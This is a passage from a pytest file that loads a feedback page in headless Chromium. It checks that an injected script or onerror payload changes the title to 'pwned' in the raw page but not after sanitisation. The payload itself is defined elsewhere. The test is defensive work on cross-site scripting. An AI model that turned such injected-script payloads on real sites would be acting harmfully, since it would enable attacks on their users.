    assert prepared() == 2                 # a release before a change counts for nothing

# ------------------------------------------------------------------- browser

CHROMIUM = Path("/usr/bin/chromium")
# As in test_browser.py: without the networking flags Chromium keeps trying to
# reach the (closed) network.
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu",
                 "--disable-background-networking", "--disable-component-update",
                 "--disable-sync", "--no-first-run"]


@pytest.mark.browser
@pytest.mark.slow
def test_no_script_runs_in_a_sanitised_page(tmp_path):
    """In Chromium, does a script or an onerror handler in an output change the
    page's title in the raw page, and in neither the page with the policy
    alone nor the sanitised one, whose styles and inline images still work?"""
    if not CHROMIUM.exists():
        reason = f"{CHROMIUM} not found (apt-get install chromium)"
        if os.environ.get("CI"):
            pytest.fail(reason + "; CI must run the browser test")
        pytest.skip(reason)
    from playwright.sync_api import sync_playwright
    raw = feedback_page(PAYLOAD + HOSTILE_HTML)
    pages = {"raw": raw, "policy": report.sanitize_page(raw, strip=False),
             "sanitised": report.sanitize_page(raw)}
    seen = {}
    with sync_playwright() as pw:
        context = pw.chromium.launch_persistent_context(
            str(tmp_path / "profile"), executable_path=str(CHROMIUM), headless=True,
            args=CHROMIUM_ARGS)
        try:
            page = context.pages[0] if context.pages else context.new_page()
            for name, text in pages.items():
                path = tmp_path / f"{name}.html"
                path.write_text(text)
                page.goto(path.as_uri(), wait_until="load", timeout=60_000)
                page.wait_for_timeout(1000)  # an onerror fires after load
                seen[name] = page.evaluate("""() => ({
                    title: document.title,
                    font: getComputedStyle(document.body).fontSize,
                    plot: document.getElementById('plot').naturalWidth})""")
        finally:
            context.close()
    assert seen["raw"]["title"] == "pwned", "the payload should run without protection"
    for name in ("policy", "sanitised"):
        assert seen[name] == {"title": "svm", "font": "14px", "plot": 1}, (name, seen[name])
